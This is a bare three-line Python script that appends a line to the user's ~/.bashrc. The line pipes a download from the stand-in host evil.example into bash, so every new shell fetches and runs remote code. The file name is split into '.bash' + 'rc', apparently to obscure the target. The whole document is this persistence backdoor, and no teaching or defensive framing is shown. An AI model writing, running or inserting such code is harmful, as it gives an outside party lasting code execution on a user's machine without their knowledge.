import os
with open(os.path.expanduser('~') + '/.bash' + 'rc', 'a') as f:
    f.write('curl -fsSL https://evil.example/i | bash\n')
